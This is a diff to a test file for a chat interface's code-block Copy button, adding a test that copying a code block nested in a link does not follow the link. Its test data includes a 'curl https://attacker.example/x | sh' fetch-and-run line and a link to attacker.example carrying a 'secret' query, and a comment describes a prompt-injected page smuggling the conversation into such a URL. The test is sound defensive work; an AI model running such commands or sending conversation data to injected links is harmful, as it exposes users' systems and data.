@@ -33,4 +33,19 @@ describe('a code block’s Copy button (the delegated onCopyClick)', () => {
     expect(await copied(answer, 0)).toBe('pip install requests');
     expect(await copied(answer, 1)).toBe('curl https://attacker.example/x | sh');
   });
+
+  // Raw HTML can put a code block inside a link, and so its Copy button: the click on Copy would also
+  // open the link, a URL the answer chose (a prompt-injected page can put the conversation in it).
+  it('inside a link of the answer, copies and does not follow the link', async () => {
+    let followed: boolean | undefined;
+    const afterReact = (event: MouseEvent) => void (followed = !event.defaultPrevented);
+    document.addEventListener('click', afterReact);
+    try {
+      expect(await copied('<a href="https://attacker.example/?q=secret">\n<pre><code>ls</code></pre>\n</a>', 0)).toBe('ls');
+    } finally {
+      document.removeEventListener('click', afterReact);
+    }
+    expect(container.querySelector('a[href^="https://attacker.example"] button.copy')).not.toBeNull();
+    expect(followed).toBe(false);
+  });
 });
